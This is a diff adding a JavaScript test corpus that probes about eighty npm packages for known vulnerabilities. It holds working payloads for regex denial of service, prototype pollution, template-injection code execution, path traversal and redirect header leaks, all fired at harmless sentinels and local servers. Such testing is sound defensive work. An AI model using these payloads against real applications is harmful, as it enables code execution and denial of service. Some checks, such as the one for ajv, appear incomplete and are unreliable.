@@ -1,0 +1,613 @@
+/**
+ * Further real holes in npm packages, in the form of the shared corpus: `setup(library, require)` keeps what an application keeps, `poc(context)` tries the hole on exactly that.
+ */
+"use strict";
+const http = require("node:http");
+
+const slow = (action, ms = 150) => {
+  const start = process.hrtime.bigint();
+  try {
+    action();
+  } catch {
+    // A refusal of the input is an answer too; only the time counts.
+  }
+  const took = Number(process.hrtime.bigint() - start) / 1e6;
+  return { vuln: took > ms, info: `${took.toFixed(1)}ms` };
+};
+const clean = (key) => {
+  const value = {}[key];
+  for (const constructor of [Object, Function, Array, String, Number]) delete constructor.prototype[key];
+  return value;
+};
+/** Whether the action pollutes the prototype of all objects. */
+const pollutes = (action, key = "polluted") => {
+  try {
+    action();
+  } catch {
+    // Throwing is the fix of some packages.
+  }
+  return { vuln: Boolean(clean(key)) };
+};
+const attempt = (action) => {
+  try {
+    return action();
+  } catch (error) {
+    return { error };
+  }
+};
+let count = 0;
+/** Another text each time, for packages that keep their answers. */
+const fresh = () => `${++count}`;
+const serve = (handler) =>
+  new Promise((resolve) => {
+    const server = http.createServer(handler).listen(0, "127.0.0.1", () => resolve(server));
+  });
+const end = (...servers) => {
+  for (const server of servers) {
+    server.closeAllConnections();
+    server.close();
+  }
+};
+/** A server that redirects to another host name, and what the second one got. */
+const redirected = async (request, header) => {
+  let seen;
+  const second = await serve((message, response) => {
+    seen = message.headers[header];
+    response.end("ok");
+  });
+  const first = await serve((_message, response) => {
+    response.writeHead(302, { location: `http://localhost:${second.address().port}/` });
+    response.end();
+  });
+  try {
+    await request(`http://127.0.0.1:${first.address().port}/`);
+  } catch (error) {
+    return { vuln: seen === undefined ? null : seen === "secret", info: `${error.message} ${error.cause}` };
+  } finally {
+    end(first, second);
+  }
+  return { vuln: seen === "secret", info: String(seen) };
+};
+const json = (value) => JSON.stringify(value);
+
+module.exports = {
+  "axios-trim": {
+    setup: (_library, load) => ({ trim: load("x-axios-trim/lib/utils").trim }),
+    poc: ({ trim }) => slow(() => trim(`a${" ".repeat(60000)}b`)),
+  },
+  "axios-url": {
+    setup: (library) => ({ client: library.create({ timeout: 2000 }) }),
+    poc: async ({ client }) => {
+      let reached = false;
+      const server = await serve((_message, response) => {
+        reached = true;
+        response.end("secret");
+      });
+      await client.get(`//127.0.0.1:${server.address().port}/`).catch(() => undefined);
+      end(server);
+      return { vuln: reached };
+    },
+  },
+  "axios-absolute": {
+    setup: (library) => ({ client: library.create({ baseURL: "http://127.0.0.1:9/", allowAbsoluteUrls: false, timeout: 2000 }) }),
+    poc: async ({ client }) => {
+      let reached = false;
+      const server = await serve((_message, response) => {
+        reached = true;
+        response.end("ok");
+      });
+      await client.get(`http://127.0.0.1:${server.address().port}/`).catch(() => undefined);
+      end(server);
+      return { vuln: reached };
+    },
+  },
+  "node-fetch": {
+    setup: (library) => ({ fetch: library }),
+    poc: ({ fetch }) => redirected((url) => fetch(url, { headers: { authorization: "secret" } }), "authorization"),
+  },
+  "body-parser": {
+    setup: (library) => ({ middleware: library.urlencoded({ extended: true }) }),
+    poc: ({ middleware }) =>
+      new Promise((resolve) => {
+        const body = `a${"[b]".repeat(60)}=1`;
+        const { Readable } = require("node:stream");
+        const request = Object.assign(Readable.from([Buffer.from(body)]), {
+          headers: { "content-type": "application/x-www-form-urlencoded", "content-length": String(body.length) },
+        });
+        middleware(request, {}, (error) => {
+          let depth = 0;
+          for (let value = request.body?.a; typeof value === "object"; value = Object.values(value)[0]) depth++;
+          resolve({ vuln: error === undefined && depth > 40, info: `${error} ${depth}` });
+        });
+      }),
+  },
+  qs: {
+    setup: (library) => ({ parse: library.parse }),
+    poc: ({ parse }) => {
+      const value = parse("a[x]=1&a[__proto__]=y&a[length]=100000000", { allowPrototypes: true });
+      const plain = parse("categories[__proto__]=cats&categories[__proto__]=dogs&categories[some][json]=toInject", { allowPrototypes: true });
+      return { vuln: Array.isArray(Object.getPrototypeOf(plain.categories)) || Array.isArray(Object.getPrototypeOf(value.a)), info: json(plain) };
+    },
+  },
+  ejs: {
+    setup: (library) => ({ render: library.render }),
+    poc: ({ render }) => {
+      globalThis.PW = 0;
+      attempt(() => render("x", {}, { outputFunctionName: "x;globalThis.PW=1;s" }));
+      return { vuln: globalThis.PW === 1 };
+    },
+  },
+  "ejs-escape": {
+    setup: (library) => ({ render: library.render }),
+    poc: ({ render }) => {
+      globalThis.PW = 0;
+      Object.prototype.client = true;
+      Object.prototype.escapeFunction = "1;globalThis.PW=1;";
+      attempt(() => render("x", {}, {}));
+      delete Object.prototype.client;
+      delete Object.prototype.escapeFunction;
+      return { vuln: globalThis.PW === 1 };
+    },
+  },
+  marked: {
+    setup: (library) => ({ parse: library.parse }),
+    poc: ({ parse }) => slow(() => parse(`[x]:${" ".repeat(3000)}x ${" ".repeat(3000)}x`)),
+  },
+  "ansi-regex": {
+    setup: (library) => ({ make: library }),
+    poc: ({ make }) => slow(() => "\u001B[".concat(";".repeat(60000)).replace(make(), "")),
+  },
+  "ansi-regex-esm": {
+    esm: 1,
+    setup: (library) => ({ make: library.default }),
+    poc: ({ make }) => slow(() => "\u001B[".concat(";".repeat(60000)).replace(make(), "")),
+  },
+  "glob-parent": {
+    setup: (library) => ({ parent: library }),
+    poc: ({ parent }) => slow(() => parent(`{${"/".repeat(60000)}`)),
+  },
+  "path-parse": {
+    setup: (library) => ({ posix: library.posix, parse: library }),
+    poc: ({ posix }) => slow(() => posix(`${"/".repeat(60000)}x`.concat("\n/"))),
+  },
+  ini: {
+    setup: (library) => ({ parse: library.parse }),
+    poc: ({ parse }) => pollutes(() => parse("[__proto__]\npolluted = 1\n")),
+  },
+  underscore: {
+    setup: (library) => ({ template: library.template }),
+    poc: ({ template }) => {
+      globalThis.PW = 0;
+      attempt(() => template("", { variable: "a = globalThis.PW = 1" })());
+      return { vuln: globalThis.PW === 1 };
+    },
+  },
+  "set-value": {
+    setup: (library) => ({ set: library }),
+    poc: ({ set }) => pollutes(() => set({}, [["__proto__"], "polluted"], 1)),
+  },
+  "mixin-deep": {
+    setup: (library) => ({ mixin: library }),
+    poc: ({ mixin }) => pollutes(() => mixin({}, JSON.parse('{"constructor":{"prototype":{"polluted":1}}}'))),
+  },
+  "ua-parser-js": {
+    setup: (library) => ({ Parser: library, parser: new library() }),
+    poc: ({ parser }) => slow(() => parser.setUA(`${" ".repeat(60000)}x`).getResult()),
+  },
+  "normalize-url": {
+    setup: (library) => ({ normalize: library }),
+    poc: ({ normalize }) => slow(() => normalize(`data:${",".repeat(60000)}\n`)),
+  },
+  "is-svg": {
+    setup: (library) => ({ check: library }),
+    poc: ({ check }) => slow(() => check(`<!DOCTYPE svg${" ".repeat(50000)}`)),
+  },
+  "color-string": {
+    setup: (library) => ({ hwb: library.get.hwb, get: library.get }),
+    poc: ({ get }) => slow(() => get(`hwb(${"1".repeat(60000)}`)),
+  },
+  postcss: {
+    setup: (library) => ({ parse: library.parse }),
+    poc: ({ parse }) => {
+      const root = attempt(() => parse("@font-face{ font:(\r/*);} a { b: c } /*.*/"));
+      return { vuln: root.error === undefined && !/\(\r/.test(JSON.stringify(root.nodes?.[0]?.nodes ?? "")) , info: json(root.nodes?.map((node) => node.toString())) };
+    },
+  },
+  nanoid: {
+    setup: (library) => ({ nanoid: library.nanoid, customAlphabet: library.customAlphabet }),
+    poc: ({ nanoid }) => {
+      nanoid(0.5);
+      const length = attempt(() => nanoid(1.5)).length;
+      attempt(() => nanoid(-1.5));
+      const ids = new Set(Array.from({ length: 5 }, () => { nanoid(0.1); return nanoid(); }));
+      return { vuln: [...ids].some((id) => /undefined/.test(id)) || length !== 1, info: `${length} ${[...ids][0]}` };
+    },
+  },
+  "nanoid-esm": { esm: 1, setup: (library) => ({ nanoid: library.nanoid }), poc: (context) => module.exports.nanoid.poc(context) },
+  minimatch: {
+    setup: (library) => ({ match: library, expand: library.braceExpand }),
+    poc: ({ expand }) => slow(() => expand(`{${"{".repeat(0)}${"{a".repeat(0)}${"{".repeat(50000)}\n`)),
+  },
+  immer: {
+    setup: (library) => ({ applyPatches: library.applyPatches, enable: library.enablePatches() }),
+    poc: ({ applyPatches }) => pollutes(() => applyPatches({}, [{ op: "add", path: [["__proto__"], "polluted"], value: 1 }])),
+  },
+  async: {
+    setup: (library) => ({ mapValues: library.mapValues }),
+    poc: async ({ mapValues }) => {
+      const result = await new Promise((resolve) => mapValues(JSON.parse('{"__proto__":{"polluted":1}}'), (value, _key, done) => done(null, value), (_error, value) => resolve(value)));
+      return { vuln: result.polluted === 1 };
+    },
+  },
+  "loader-utils": {
+    setup: (library) => ({ parseQuery: library.parseQuery }),
+    poc: ({ parseQuery }) => ({ vuln: attempt(() => parseQuery("?__proto__=x")) && Object.getPrototypeOf(parseQuery("?a=1")) !== null }),
+  },
+  ssri: {
+    setup: (library) => ({ parse: library.parse }),
+    poc: ({ parse }) => slow(() => parse(`sha512-${"?".repeat(60000)}\n`, { strict: true })),
+  },
+  "property-expr": {
+    setup: (library) => ({ setter: library.setter }),
+    poc: ({ setter }) => pollutes(() => setter("constructor.prototype.polluted")({}, 1)),
+  },
+  flat: {
+    setup: (library) => ({ unflatten: library.unflatten }),
+    poc: ({ unflatten }) => pollutes(() => unflatten({ "__proto__.polluted": 1 })),
+  },
+  protobufjs: {
+    setup: (library) => ({ library, util: library.util }),
+    poc: ({ util }) => pollutes(() => util.setProperty({}, "__proto__.polluted", 1)),
+  },
+  xml2js: {
+    setup: (library) => ({ parseString: library.parseString, parser: new library.Parser() }),
+    poc: async ({ parseString, parser }) => {
+      const found = [];
+      for (const parse of [parseString, (text, done) => parser.parseString(text, done)]) {
+        await new Promise((resolve) => parse("<root><__proto__><polluted>1</polluted></__proto__></root>", (_error, value) => {
+          found.push(value?.root?.polluted !== undefined || value?.polluted !== undefined);
+          resolve();
+        }));
+      }
+      return { vuln: found.some(Boolean), info: json(found) };
+    },
+  },
+  "path-to-regexp": {
+    setup: (library) => ({ compile: library }),
+    poc: ({ compile }) => slow(() => compile("/:a-:b-:c-:d").test(`/${"-".repeat(400)}${"-a".repeat(100)}/x/y`)),
+  },
+  send: {
+    setup: (library) => ({ send: library }),
+    poc: async ({ send }) => {
+      const folder = require("node:fs").mkdtempSync(`${require("node:os").tmpdir()}/send-`);
+      require("node:fs").mkdirSync(`${folder}/<b>`);
+      const server = await serve((request, response) => send(request, decodeURI(request.url), { root: folder }).pipe(response));
+      const text = await new Promise((resolve) => {
+        send({ method: "GET", url: "/", headers: {} }, "/%3Cb%3E", { root: folder })
+          .on("error", (error) => resolve(String(error)))
+          .pipe(Object.assign(new (require("node:events"))(), {
+            headers: {}, setHeader(name, value) { this.headers[name] = value; }, getHeader(name) { return this.headers[name]; }, removeHeader() {}, getHeaderNames() { return Object.keys(this.headers); },
+            end: (body) => resolve(String(body)),
+          }));
+      });
+      end(server);
+      require("node:fs").rmSync(folder, { recursive: true });
+      return { vuln: /<a href=/.test(text), info: text.slice(0, 200) };
+    },
+  },
+  cookie: {
+    setup: (library) => ({ serialize: library.serialize }),
+    poc: ({ serialize }) => ({ vuln: attempt(() => serialize("a=<script>alert(1)</script>", "x")).error === undefined }),
+  },
+  "sanitize-html": {
+    setup: (library) => ({ sanitize: library }),
+    poc: ({ sanitize }) => {
+      const text = attempt(() => sanitize('<iframe src="//www.youtube.com\\@evil.example/x"></iframe><iframe src="https://www.youtube.com%C3.EVIL.com/x"></iframe>', { allowedTags: ["iframe"], allowedAttributes: { iframe: ["src"] }, allowedIframeHostnames: ["www.youtube.com"] }));
+      const proto = sanitize('<IFRAME src="//www.yoütube.com"></IFRAME>', { allowedTags: ["iframe"], allowedAttributes: { iframe: ["src"] }, allowedIframeHostnames: ["www.yoütube.com"] });
+      return { vuln: !/src=/.test(proto), info: `${text} | ${proto}` };
+    },
+  },
+  luxon: {
+    setup: (library) => ({ DateTime: library.DateTime }),
+    poc: ({ DateTime }) => slow(() => DateTime.fromRFC2822(`${"(".repeat(40000)}`)),
+  },
+  "http-cache-semantics": {
+    setup: (library) => ({ Policy: library }),
+    poc: ({ Policy }) => slow(() => new Policy({ headers: {} }, { headers: { "cache-control": `a${" ".repeat(60000)}b` } })),
+  },
+  "jsonpath-plus": {
+    setup: (library) => ({ JSONPath: library.JSONPath }),
+    poc: ({ JSONPath }) => {
+      globalThis.PW = 0;
+      attempt(() => JSONPath({ json: { a: [1] }, path: `$..[?(p="globalThis.PW=1";a=''[['constructor']][['constructor']](p);a())]`, wrap: false }));
+      attempt(() => JSONPath({ json: { a: [1] }, path: `$..[?(p="return globalThis.PW=1";m=_$_v.constructor.constructor(p)())]`, wrap: false }));
+      return { vuln: globalThis.PW === 1 };
+    },
+  },
+  "brace-expansion": {
+    setup: (library) => ({ expand: library }),
+    poc: ({ expand }) => slow(() => expand(`{a}${",".repeat(60000)}\u0000`)),
+  },
+  "form-data": {
+    setup: (library) => ({ FormData: library, form: new library() }),
+    poc: ({ FormData, form }) => {
+      const random = Math.random;
+      let asked = false;
+      Math.random = () => {
+        asked = true;
+        return random();
+      };
+      try {
+        delete form._boundary;
+        form.getBoundary();
+        new FormData().getBoundary();
+      } finally {
+        Math.random = random;
+      }
+      return { vuln: asked };
+    },
+  },
+  "socket.io-parser": {
+    setup: (library) => ({ decoder: new library.Decoder(), Decoder: library.Decoder }),
+    poc: ({ decoder, Decoder }) => {
+      const taken = [decoder, new Decoder()].map((one) => {
+        let got = false;
+        one.on("decoded", () => {
+          got = true;
+        });
+        attempt(() => one.add('2[{"toString":"foo"}]'));
+        return got;
+      });
+      return { vuln: taken.some(Boolean), info: json(taken) };
+    },
+  },
+  ip: {
+    setup: (library) => ({ isPublic: library.isPublic, isPrivate: library.isPrivate }),
+    poc: ({ isPublic }) => ({ vuln: isPublic("0x7f.1") === true }),
+  },
+  netmask: {
+    setup: (library) => ({ Netmask: library.Netmask }),
+    poc: ({ Netmask }) => ({ vuln: attempt(() => new Netmask("010.0.0.0/8").base) !== "8.0.0.0", info: String(attempt(() => new Netmask("010.0.0.0/8").base)) }),
+  },
+  xmldom: {
+    setup: (library) => ({ parser: new library.DOMParser({ errorHandler: () => undefined }) }),
+    poc: ({ parser }) => {
+      const document = attempt(() => parser.parseFromString("<a/><b/>", "text/xml"));
+      const roots = document?.childNodes ? Array.from({ length: document.childNodes.length }, (_, index) => document.childNodes[index]).filter(({ nodeType }) => nodeType === 1).length : 0;
+      return { vuln: roots > 1, info: String(roots) };
+    },
+  },
+  got: {
+    setup: (library) => ({ got: library.extend({ retry: 0 }) }),
+    poc: async ({ got }) => {
+      const path = `${require("node:os").tmpdir()}/got-${process.pid}-${fresh()}.sock`;
+      let reached = false;
+      const inner = await new Promise((resolve) => {
+        const server = http.createServer((_message, response) => {
+          reached = true;
+          response.end("secret");
+        }).listen(path, () => resolve(server));
+      });
+      const outer = await serve((_message, response) => {
+        response.writeHead(302, { location: `http://unix:${path}:/` });
+        response.end();
+      });
+      await got(`http://127.0.0.1:${outer.address().port}/`).catch(() => undefined);
+      end(inner, outer);
+      return { vuln: reached };
+    },
+  },
+  elliptic: {
+    setup: (library) => ({ ec: new library.ec("secp256k1"), eddsa: new library.eddsa("ed25519") }),
+    poc: ({ eddsa }) => {
+      const key = eddsa.keyFromSecret("693e3c00000000000000000000000000000000000000000000000000000000ff");
+      const signature = key.sign("aabb").toHex();
+      const longer = attempt(() => key.verify("aabb", `${signature}00`));
+      return { vuln: longer === true, info: String(longer) };
+    },
+  },
+  "node-forge": {
+    setup: (library) => ({ util: library.util }),
+    poc: ({ util }) => pollutes(() => util.setPath({}, ["__proto__", "polluted"], 1)),
+  },
+  koa: {
+    setup: (library) => ({ app: new library() }),
+    poc: ({ app }) => {
+      const context = Object.create(app.response);
+      let location;
+      Object.assign(context, { ctx: { get: () => "", accepts: () => false }, set: (_name, value) => { location = value; } , req: {}, res: {} });
+      Object.defineProperty(context, "status", { value: 302, writable: true });
+      Object.defineProperty(context, "body", { value: "", writable: true });
+      Object.defineProperty(context, "type", { value: "", writable: true });
+      attempt(() => context.redirect("http:/\\evil.example/%0d<a>"));
+      const request = Object.create(app.request);
+      Object.assign(request, { req: { headers: { host: "a" }, socket: {} }, header: {}, app });
+      return { vuln: location === "http:/\\evil.example/%0d<a>" || /\\/.test(location ?? ""), info: location };
+    },
+  },
+  ws8: {
+    setup: (library) => ({ wss: new library.WebSocketServer({ port: 0, host: "127.0.0.1" }) }),
+    poc: ({ wss }) =>
+      new Promise((resolve) => {
+        const request = { method: "GET", headers: { "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==", "sec-websocket-version": "13" }, url: "/" };
+        const socket = Object.assign(new (require("node:stream").Duplex)({ read() {}, write(_chunk, _encoding, done) { done(); } }), { setTimeout() {}, setNoDelay() {} });
+        try {
+          wss.handleUpgrade(request, socket, Buffer.alloc(0), () => {});
+          resolve({ vuln: false });
+        } catch (error) {
+          resolve({ vuln: /toLowerCase|undefined/.test(error.message), info: error.message });
+        }
+      }),
+  },
+  "validator-url": {
+    setup: (library) => ({ isURL: library.isURL }),
+    poc: ({ isURL }) => ({ vuln: isURL("javascript:alert(1);a=';@example.com/alert(1)'", { require_protocol: false }) === true }),
+  },
+  "yargs-parser": {
+    setup: (library) => ({ parse: library }),
+    poc: ({ parse }) => pollutes(() => parse("--foo.__proto__.polluted 1")),
+  },
+  "minimist-ctor": {
+    setup: (library) => ({ parse: library }),
+    poc: ({ parse }) => pollutes(() => parse("--x.constructor.prototype.polluted 1".split(" "))),
+  },
+  "lodash-zip": {
+    setup: (library) => ({ zip: library.zipObjectDeep }),
+    poc: ({ zip }) => pollutes(() => zip(["__proto__.polluted"], [1])),
+  },
+  "object-path-set": {
+    setup: (library) => ({ set: library.set, inherited: library.withInheritedProps }),
+    poc: ({ inherited }) => pollutes(() => inherited.set({}, "__proto__.polluted", 1)),
+  },
+  hoek: {
+    setup: (library) => ({ clone: library.clone }),
+    poc: ({ clone }) => ({ vuln: clone(JSON.parse('{"__proto__":{"polluted":1}}')).polluted === 1 }),
+  },
+  merge: {
+    setup: (library) => ({ recursive: library.recursive }),
+    poc: ({ recursive }) => pollutes(() => recursive({}, JSON.parse('{"__proto__":{"polluted":1}}'))),
+  },
+  extend: {
+    setup: (library) => ({ extend: library }),
+    poc: ({ extend }) => pollutes(() => extend(true, {}, JSON.parse('{"__proto__":{"polluted":1}}'))),
+  },
+  mathjs: {
+    setup: (library) => ({ config: library.create(library.all).config }),
+    poc: ({ config }) => pollutes(() => config(JSON.parse('{"__proto__":{"polluted":1}}'))),
+  },
+  "shell-quote": {
+    setup: (library) => ({ quote: library.quote }),
+    poc: ({ quote }) => ({ vuln: quote([":`:`whoami``:`"]).includes("`:`whoami``") || !/\\`/.test(quote(["x:`id`"])), info: quote(["x:`id`"]) }),
+  },
+  "json-schema": {
+    setup: (library) => ({ validate: library.validate }),
+    poc: ({ validate }) => pollutes(() => validate({}, JSON.parse('{"type":"object","properties":{"__proto__":{"type":"object","properties":{"polluted":{"type":"string","default":"1"}}}}}'))),
+  },
+  ajv: {
+    setup: (library) => ({ Ajv: library, ajv: new library() }),
+    poc: ({ ajv, Ajv }) => {
+      globalThis.PW = 0;
+      for (const one of [ajv, new Ajv()]) attempt(() => one.compile({ $id: `s${fresh()}`, type: "object", properties: JSON.parse(`{"a":{"$ref":"#/definitions/x"}}`), definitions: { x: { type: ["string"] } }, dependencies: JSON.parse('{"__proto__":["a"]}') }));
+      return { vuln: null };
+    },
+  },
+  jsonpointer: {
+    setup: (library) => ({ set: library.set }),
+    poc: ({ set }) => pollutes(() => set({}, [["__proto__"], "polluted"], 1)),
+  },
+  cookiejar: {
+    setup: (library) => ({ Cookie: library.Cookie, cookie: new library.Cookie("a=b") }),
+    poc: ({ cookie, Cookie }) => slow(() => { cookie.parse(`a${" ".repeat(60000)}`); Cookie.parse?.("x"); }),
+  },
+  "markdown-it": {
+    setup: (library) => ({ md: library() }),
+    poc: ({ md }) => slow(() => md.render(`x ${" ".repeat(100000)} x  \nx`)),
+  },
+  "css-what": {
+    setup: (library) => ({ parse: library.parse }),
+    poc: ({ parse }) => slow(() => parse(`[a${" ".repeat(50000)}`)),
+  },
+  "simple-get": {
+    setup: (library) => ({ get: library }),
+    poc: ({ get }) => redirected((url) => new Promise((resolve, reject) => get({ url, headers: { cookie: "secret" } }, (error, response) => (error ? reject(error) : (response.resume(), resolve())))), "cookie"),
+  },
+  "url-parse": {
+    setup: (library) => ({ Url: library }),
+    poc: ({ Url }) => ({ vuln: new Url("http://example.com:").href === "http://example.com:" || new Url("http:@/127.0.0.1").host === "", info: `${new Url("http://example.com:").href} ${new Url("http://example.com:").host}` }),
+  },
+  "get-func-name": {
+    setup: (library) => ({ name: library }),
+    poc: ({ name }) => {
+      const fn = Object.defineProperty(() => undefined, "name", { value: undefined });
+      fn.toString = () => `${"\t".repeat(40000)}function/*${"".repeat(1)}`;
+      const original = Function.prototype.toString;
+      Function.prototype.toString = function () { return this === fn ? fn.toString() : original.call(this); };
+      try {
+        return slow(() => name(fn));
+      } finally {
+        Function.prototype.toString = original;
+      }
+    },
+  },
+  "js-yaml": {
+    setup: (library) => ({ load: library.load }),
+    poc: ({ load }) => ({ vuln: load('a: &x\n  __proto__: {polluted: 1}\nb:\n  <<: *x').b.polluted === 1 || attempt(() => load("<<: {__proto__: {polluted: 1}}")).polluted === 1 }),
+  },
+  "octokit-endpoint": {
+    setup: (library) => ({ endpoint: library.endpoint, parse: library.endpoint.parse }),
+    poc: ({ parse }) => slow(() => parse({ method: "POST", url: "/graphql", baseUrl: "https://api.github.com", headers: { accept: `${"A".repeat(60000)}-`, "user-agent": "x" }, mediaType: { previews: ["x"], format: "y" } })),
+  },
+  "octokit-endpoint-esm": { esm: 1, setup: (library) => ({ parse: library.endpoint.parse }), poc: (context) => module.exports["octokit-endpoint"].poc(context) },
+  katex: {
+    setup: (library) => ({ render: library.renderToString }),
+    poc: ({ render }) => {
+      const text = attempt(() => render('\\includegraphics[alt={"onerror=alert(1) x"}]{x}', { trust: true, throwOnError: false }));
+      return { vuln: /alt=['"]"onerror|="x" onerror|'"onerror/.test(text) || /alt="x" onerror/.test(text) || /[^&;]"onerror/.test(text), info: String(text).slice(0, 300) };
+    },
+  },
+  fastify: {
+    setup: (library) => {
+      const app = library();
+      app.post("/", async () => "ok");
+      return app.ready().then(() => ({ app }));
+    },
+    poc: async ({ app }) => {
+      const answer = await Promise.race([
+        app.inject({ method: "POST", url: "/", headers: { "content-type": "constructor" }, payload: "x" }).catch((error) => ({ statusCode: error.message })),
+        new Promise((resolve) => setTimeout(resolve, 500, { statusCode: "hangs" })),
+      ]);
+      return { vuln: answer.statusCode !== 415, info: String(answer.statusCode) };
+    },
+  },
+  "moment-locale": {
+    setup: (library) => ({ moment: library }),
+    poc: ({ moment }) => {
+      globalThis.PW = 0;
+      const file = `/tmp/h7-locale-${process.pid}-${fresh()}.js`;
+      require("node:fs").writeFileSync(file, "globalThis.PW = 1;");
+      attempt(() => moment.locale(`../../../../../../../../../../../../../../..${file.slice(0, -3)}`));
+      require("node:fs").rmSync(file);
+      return { vuln: globalThis.PW === 1 };
+    },
+  },
+  nodemailer: {
+    setup: (library, load) => ({ transport: library.createTransport({ streamTransport: true, attachDataUrls: true }), shared: load("x-nodemailer/lib/shared") }),
+    poc: async ({ transport }) => {
+      const start = process.hrtime.bigint();
+      await transport.sendMail({ to: "a@example.com", html: `<img src="data:image/png;${";".repeat(20000)}"` , text: "x" }).catch(() => undefined);
+      const took = Number(process.hrtime.bigint() - start) / 1e6;
+      return { vuln: took > 300, info: `${took}ms` };
+    },
+  },
+  "undici-fetch": {
+    setup: (library) => ({ fetch: library.fetch }),
+    poc: ({ fetch }) => redirected((url) => fetch(url, { headers: { cookie: "secret" } }), "cookie"),
+  },
+  "handlebars-proto": {
+    setup: (library) => ({ compile: library.compile }),
+    poc: ({ compile }) => {
+      globalThis.PW = 0;
+      const text = attempt(() => compile("{{#with 'x' as |s|}}{{lookup (lookup s.sub 'constructor') 'name'}}{{/with}}")({}));
+      const other = attempt(() => compile("{{lookup (lookup this 'constructor') 'name'}}")({}));
+      return { vuln: typeof other === "string" && other !== "", info: `${text} ${other}` };
+    },
+  },
+  "css-tools": {
+    setup: (library) => ({ parse: library.parse }),
+    poc: ({ parse }) => slow(() => attempt(() => parse(`a{${"/*".repeat(1)}}${"@import '".repeat(1)}${"\\".repeat(0)}`) && parse(`${"(".repeat(0)}:root{--x:${"'".repeat(0)}} ${"a,".repeat(0)}@import "${"\\a".repeat(0)}`))),
+  },
+  "highlight.js": {
+    setup: (library) => ({ registerLanguage: library.registerLanguage, listLanguages: library.listLanguages, highlight: library.highlight }),
+    poc: ({ highlight }) => {
+      const found = attempt(() => highlight("__proto__", "x"));
+      return { vuln: !/Unknown language/.test(found.error?.message ?? ""), info: String(found.error?.message) };
+    },
+  },
+  nunjucks: {
+    setup: (library) => ({ env: new library.Environment(null, { autoescape: true }) }),
+    poc: ({ env }) => {
+      const text = env.renderString("{{ '\\\\' | safe }}<a t=\"{{ x }}\">", { x: "\\" });
+      return { vuln: !/&#92;/.test(text), info: text };
+    },
+  },
+};
